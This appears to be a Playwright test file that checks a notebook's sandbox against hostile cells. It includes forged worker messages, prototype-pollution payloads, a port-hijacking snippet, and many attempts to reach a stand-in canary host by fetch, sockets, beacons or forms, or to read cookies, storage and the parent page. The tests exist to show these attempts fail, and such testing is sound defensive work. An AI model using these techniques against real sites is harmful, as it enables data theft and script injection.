// Malicious cells in the built site, watched by witnesses: see witnesses.ts.
import { expect as expectSoon, test as base, type Page } from "@playwright/test";
import { type Hostile, REACHING, SHOWING, WASTEFUL } from "./hostile-cells.ts";
import {
  expectToWork,
  openCanary,
  pageState,
  plantSecrets,
  runCell,
  SECRET,
  setText,
  watch,
} from "./witnesses.ts";

const expect = expectSoon.configure({ timeout: 20_000 });

interface Witnesses {
  /** A page with secrets, which only a cell could want to read or change. */
  guarded: Page;
  /** An address that records every visit. */
  canary: string;
}

const test = base.extend<Witnesses>({
  canary: async ({}, use) => {
    const canary = await openCanary();
    await use(canary.host);
    expect(canary.touched, "what has come to the canary").toEqual([]);
    canary.close();
  },
  guarded: async ({ page, canary, baseURL }, use) => {
    void canary;
    await page.goto("indexing/");
    await plantSecrets(page);
    await expectToWork(page); // everything that the page loads for cells is loaded
    const seen = watch(page, baseURL!);
    const before = await pageState(page);
    await use(page);
    expect(await pageState(page)).toEqual(before);
    expect(seen, "what was seen beside the page").toEqual([]);
  },
});

/** Elements that load, link, run or move. */
const ACTING =
  "img, script, iframe, object, embed, a, form, style, link, meta, base, image, use, foreignObject, animate, set";

async function expectHarmless(page: Page, { source, shows, isEndless }: Hostile) {
  const text = await runCell(page, source, { stop: isEndless });
  expect(text).not.toContain(SECRET);
  if (isEndless) expect(text).toContain("Stopped.");
  if (shows) expect(text).toMatch(shows);
  const acting = page.locator("#cell-1 .cell-results").locator(ACTING);
  expect(await acting.count()).toBe(0);
  await expectToWork(page);
}

const GROUPS = {
  "reaches out of its worker": REACHING,
  "shows what is no harmless text": SHOWING,
  "takes more than there is from its worker": WASTEFUL,
};

for (const [what, cells] of Object.entries(GROUPS)) {
  const names = Object.keys(cells);
  test(`no cell that ${what} does harm (${names.length} cells)`, async ({
    guarded,
    canary,
  }) => {
    test.setTimeout(120_000);
    for (const [name, hostile] of Object.entries(cells)) {
      await test.step(name, () => {
        const source = hostile.source.replaceAll("CANARY", canary);
        return expectHarmless(guarded, { ...hostile, source });
      });
    }
  });
}

/** Runs before the worker's own script, and gives its port to the cells. */
const LEAK = `addEventListener("message", ({ ports }) => { globalThis.port = ports[0]; }, { once: true });\n`;

/** Tries to obtain the worker's port: it is the target of each message. */
const TAKE_PORT = `const { get } = Object.getOwnPropertyDescriptor(MessageEvent.prototype, "data")!;
Object.defineProperty(MessageEvent.prototype, "data", {
  get() {
    (globalThis as any).port = this.target;
    return get!.call(this);
  },
}); 1`;

const BROKEN = /a cell has broken what runs the cells/;

const output = (view: unknown) => ({
  kind: "output",
  id: "cell-1",
  output: { line: 1, text: "forged", view },
});

/**
 * Messages that a cell might send to the page in the worker's name, and whether each ends
 * the worker.
 */
const FORGED: Record<string, { message: unknown; ends: boolean }> = {
  "an unknown kind": { message: { kind: "constructor" }, ends: true },
  "no object": { message: null, ends: true },
  "a vnode as text": {
    message: {
      kind: "output",
      id: "cell-1",
      output: {
        line: 1,
        text: { type: "img", props: { src: "x", onerror: "window.done=1" } },
      },
    },
    ends: true,
  },
  "a vnode as an error": {
    message: {
      kind: "ended",
      id: "cell-1",
      error: { message: { type: "b", props: { dangerouslySetInnerHTML: "x" } } },
    },
    ends: true,
  },
  "a view of an unknown kind": {
    message: output({ kind: "html", html: "<b>x</b>" }),
    ends: true,
  },
  "a permutation that is none": {
    message: output({ kind: "permutation", permutation: [0, 0] }),
    ends: true,
  },
  "no permutation": {
    message: output({ kind: "permutation", permutation: [] }),
    ends: true,
  },
  "a cube that is none": {
    message: output({ kind: "cube", permutation: [0], orientation: [9] }),
    ends: true,
  },
  "counts below nothing": {
    message: output({ kind: "histogram", counts: [-1, 1e400, 0.5] }),
    ends: true,
  },
  "a slider without steps": {
    message: output({
      kind: "input",
      index: 0,
      input: { type: "range", label: "", min: 0, max: 1, step: 0, value: 0 },
    }),
    ends: true,
  },
  "a choice among nothing": {
    message: output({
      kind: "input",
      index: 0,
      input: { type: "radio", label: "", options: [], value: 0 },
    }),
    ends: true,
  },
  "a table with holes": {
    message: output({ kind: "table", id: 1, columns: ["a"], rows: [[]], total: 1 }),
    ends: true,
  },
  "a table of less than nothing": {
    message: output({ kind: "table", id: 1, columns: ["a"], rows: [], total: -5 }),
    ends: true,
  },
  "a cube out of range for the figures": {
    message: { kind: "set-live", name: "readerCube", value: 1e9 },
    ends: true,
  },
  "rubbish for the figures": {
    message: { kind: "set-live", name: "readerPermutation", value: ["<b>", {}] },
    ends: true,
  },
  "a figure that is none": {
    message: { kind: "set-live", name: "__proto__", value: 1 },
    ends: true,
  },
  "a control's value that is none": {
    message: { kind: "input", state: { cell: "a", index: 0, made: "[", raw: 1 } },
    ends: true,
  },
  "a module by its address": {
    message: { kind: "want-module", name: "http://CANARY/x.js" },
    ends: false,
  },
  "a module of all objects": {
    message: { kind: "want-module", name: "__proto__" },
    ends: false,
  },
  "results of no cell": {
    message: { ...output(undefined), id: "nobody" },
    ends: false,
  },
};

test("a cell does not get hold of its worker's port", async ({ guarded: page }) => {
  await runCell(page, TAKE_PORT);
  expect(await runCell(page, "typeof (globalThis as any).port;")).toContain(
    "undefined",
  );
});

test("nothing that a cell tells the page in its worker's name does harm", async ({
  guarded: page,
  canary,
}) => {
  test.setTimeout(120_000);
  // No cell is known to obtain its worker's port; here it is given to each.
  await page.route(/notebook-worker[^/]*\.js$/, async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: LEAK + (await response.text()) });
  });
  await page.reload();
  await plantSecrets(page);
  const forge = (code: string) =>
    runCell(page, `const { port } = globalThis as any;\n${code}`);
  for (const [name, { message, ends }] of Object.entries(FORGED)) {
    await test.step(name, async () => {
      const json = JSON.stringify(JSON.stringify(message)).replace("CANARY", canary);
      const text = await forge(`port.postMessage(${json});\n"sent";`);
      if (ends) expect(text).toMatch(BROKEN);
      else expect(text).toContain('"sent"');
      await expectToWork(page);
    });
  }
  const OTHERS: Record<string, [code: string, shows: RegExp]> = {
    "what is no text": [`port.postMessage({ kind: "pong" })`, BROKEN],
    "text that is no JSON": [`port.postMessage("{")`, BROKEN],
    "keys that change all objects": [
      `port.postMessage('{"__proto__":{"polluted":1},"kind":"pong","constructor":{"prototype":{"polluted":1}}}'); 5`,
      /5/,
    ],
    "a tree too deep": [
      `port.postMessage('{"kind":"output","id":"cell-1","output":{"line":1,"text":"","view":{"kind":"tree","root":' + '{"text":"","children":['.repeat(1000) + '{"text":""}' + ']}'.repeat(1000) + '}}}')`,
      BROKEN,
    ],
    "a list too long": [
      `port.postMessage(JSON.stringify({ kind: "rows", request: 1, rows: Array(1e5).fill(["x"]) }))`,
      BROKEN,
    ],
    "text without end": [
      `port.postMessage("x".repeat(1e8)); await new Promise(() => {})`,
      /told the page too much at once/,
    ],
    "messages without number": [
      `for (;;) port.postMessage('{"kind":"pong"}')`,
      /told the page too much at once/,
    ],
    "outputs without number": [
      `for (let i = 0; i < 1000; i++) port.postMessage('{"kind":"output","id":"cell-1","output":{"line":1,"text":"x"}}'); await new Promise(() => {})`,
      /shown more than the page can hold/,
    ],
    "messages with methods of one's own": [
      `MessagePort.prototype.postMessage = () => { throw 1; }; JSON.stringify = () => '{"kind":"x"}'; (globalThis as any).onmessage = null; 123`,
      /123/,
    ],
  };
  await test.step("silence", async () => {
    const silence = "(globalThis as any).port.close(); await new Promise(() => {})";
    expect(await runCell(page, silence, { stop: true })).toContain("Stopped.");
    await expectToWork(page);
  });
  for (const [name, [code, shows]] of Object.entries(OTHERS)) {
    await test.step(name, async () => {
      expect(await forge(code)).toMatch(shows);
      await expectToWork(page);
    });
  }
});

test("a cell that spoils its worker for the others harms no page, and Run all begins afresh", async ({
  page,
}) => {
  // Run all runs cells that set the page's figures: only this part of its state must
  // remain.
  const native = async () => {
    const { globals, prototypes } = await pageState(page);
    return { globals, prototypes };
  };
  await page.goto("indexing/");
  await plantSecrets(page);
  await expectToWork(page);
  const before = await native();
  const SPOILT = {
    "what all objects have":
      "Object.prototype.toString = Object.prototype.valueOf = () => { throw 1; }; (Object.prototype as any).kind = 'x'; 1",
    lists: "Array.prototype.map = Array.prototype.push = null as any; 1",
    texts: "String.prototype.slice = String.prototype.split = null as any; 1",
    promises: "Promise.prototype.then = () => { throw 1; }; 1",
    maps: "Map.prototype.get = () => undefined; Map.prototype.set = null as any; 1",
    functions: "Function.prototype.call = Function.prototype.bind = null as any; 1",
    "the console and timers":
      "(globalThis as any).setTimeout = null; (globalThis as any).console = null; 1",
  };
  const bar = page.locator(".notebook-bar");
  const [runAll, stop] = ["Run all", "Stop"].map((name) =>
    bar.getByRole("button", { name, exact: true }),
  );
  const results = page.locator("#cell-1 .cell-results");
  for (const [what, source] of Object.entries(SPOILT)) {
    await test.step(what, async () => {
      await setText(page, source);
      await page.locator("#cell-1 .cell-run").click();
      await page.waitForTimeout(300); // after this, a hanging run would show Stop
      if (await stop.isVisible()) await stop.click();
      await expect(runAll).toBeVisible();
      await setText(page, "6 * 7");
      await runAll.click();
      await expect(results).toHaveText(/^1\s*42$/);
      await expect(runAll).toBeVisible();
      await expect(page.locator("#cell-1 .cell-error")).toHaveCount(0);
      await expectToWork(page);
    });
  }
  expect(await native()).toEqual(before);
});

test("even the frame around the worker can reach neither network nor storage nor page", async ({
  guarded: page,
  canary,
}) => {
  const frame = page.frames().find((one) => one.url() === "about:srcdoc")!;
  const got = await frame.evaluate(async (host) => {
    const http = `http://${host}/`;
    const load = (address: string) => import(/* @vite-ignore */ address);
    const inWorker = (code: string) =>
      new Promise<unknown>((resolve, reject) => {
        const text = `(async () => { ${code} })().then((x) => postMessage("got " + x), (e) => postMessage(String(e)));`;
        const blob = new Blob([text], { type: "text/javascript" });
        const worker = new Worker(URL.createObjectURL(blob));
        worker.onmessage = ({ data }) =>
          String(data).startsWith("got ") ? resolve(data) : reject(data);
        worker.onerror = reject;
        setTimeout(reject, 1500);
      });
    const event = (target: EventTarget, good: string, bad = "error") =>
      new Promise((resolve, reject) => {
        target.addEventListener(good, resolve);
        target.addEventListener(bad, reject);
        setTimeout(reject, 1500);
      });
    const element = (name: string, properties: object) => {
      const made = Object.assign(document.createElement(name), properties);
      document.body.append(made);
      return event(made, "load");
    };
    const ways: Record<string, () => unknown> = {
      fetch: () => fetch(http, { mode: "no-cors" }),
      socket: () => event(new WebSocket(`ws://${host}/`), "open"),
      events: () => event(new EventSource(http), "open"),
      image: () => element("img", { src: http }),
      script: () => element("script", { src: http }),
      style: () => element("link", { rel: "stylesheet", href: http }),
      frame: () =>
        element("iframe", { src: http }).then(() => {
          throw new Error("an empty one");
        }),
      module: () => load(http),
      "module as data": () => load("data:text/javascript,export default 1"),
      "module of this site": () => load("/x.js"),
      "worker elsewhere": () => new Worker(http),
      "fetch in a worker": () => inWorker(`return fetch("${http}")`),
      "fetch of this site in a worker": () =>
        inWorker(`return fetch("${location.ancestorOrigins?.[0]}/")`),
      "scripts in a worker": () => inWorker(`return importScripts("${http}")`),
      "socket in a worker": () =>
        inWorker(
          `const s = new WebSocket("ws://${host}/"); await new Promise((y, n) => { s.onopen = y; s.onerror = n; })`,
        ),
      "worker in a worker": () =>
        inWorker(
          `const w = new Worker(URL.createObjectURL(new Blob(["fetch('${http}').then(() => postMessage(1), () => postMessage(0))"]))); await new Promise((y, n) => { w.onmessage = ({ data }) => data ? y() : n(); w.onerror = n; })`,
        ),
      "transport in a worker": () =>
        inWorker(`await new WebTransport("https://${host}/").ready`),
      "databases in a worker": () =>
        inWorker(
          `const o = indexedDB.open("secret"); await new Promise((y, n) => { o.onsuccess = y; o.onerror = n; })`,
        ),
      "caches in a worker": () => inWorker(`return caches.keys()`),
      "font in a worker": () =>
        inWorker(`return new FontFace("x", "url(${http})").load()`),
      beacon: () => {
        if (!navigator.sendBeacon(http, "x")) throw new Error("refused");
        throw new Error("queued: the canary tells");
      },
      storage: () => localStorage.getItem("secret"),
      cookies: () => document.cookie,
      databases: () => event(indexedDB.open("secret"), "success"),
      caches: () => caches.keys(),
      page: () => parent.document.title,
      "page's address": () => {
        top!.location.href = http;
      },
      window: () => {
        if (open(http) === null) throw new Error("no window");
      },
      dialog: () => {
        if (confirm("x") === false) throw new Error("no dialog");
      },
      form: () => {
        const form = Object.assign(document.createElement("form"), { action: http });
        document.body.append(form);
        form.submit();
        throw new Error("the canary tells");
      },
    };
    const reached: string[] = [];
    await Promise.all(
      Object.entries(ways).map(async ([name, go]) => {
        try {
          await go();
          reached.push(name);
        } catch {
          // as expected
        }
      }),
    );
    return reached;
  }, canary);
  expect(got).toEqual([]);
  await expectToWork(page);
});

test("a cell that uses up all memory takes no page with it, where frames have a process of their own", async ({
  playwright,
  baseURL,
}) => {
  test.setTimeout(90_000);
  const browser = await playwright.chromium.launch({
    args: [
      "--site-per-process", // the default in desktop browsers
      "--js-flags=--max-old-space-size=256", // so that it is used up soon
    ],
  });
  const page = await browser.newPage();
  await page.goto(new URL("indexing/", baseURL).href);
  // Watched from a second window of the same process: the driver considers a page lost when
  // any frame in it is.
  const said = await page.evaluate(async () => {
    type Cell = HTMLElement & {
      source: string;
      setText(source: string, origin: "reader"): void;
    };
    const other = open(`${location.href}?other`)!;
    const until = async <T>(get: () => T | null | undefined | false | "") => {
      for (;;) {
        try {
          const got = get();
          if (got) return got;
        } catch {
          // not there yet
        }
        await new Promise((resolve) => setTimeout(resolve, 50));
      }
    };
    const isAwake = () =>
      (other as never as typeof window).customElements.get("code-cell");
    const cell = await until(
      () => isAwake() && other.document.querySelector<Cell>("code-cell"),
    );
    const run = async (source: string) => {
      cell.setText(source, "reader");
      await until(() => cell.source === source);
      cell.querySelector<HTMLElement>(".cell-run")!.click();
    };
    const results = () => cell.querySelector(".cell-results")!.textContent;
    await run("const all: any[] = []; for (;;) all.push(new Array(1e6).fill(1.5));");
    const lost = await until(() => /Stopped/.test(results()) && results());
    await run("6 * 7");
    await until(() => results() === "142");
    return lost;
  });
  expect(said).toContain("most likely because a cell used up all memory");
  await browser.close();
});
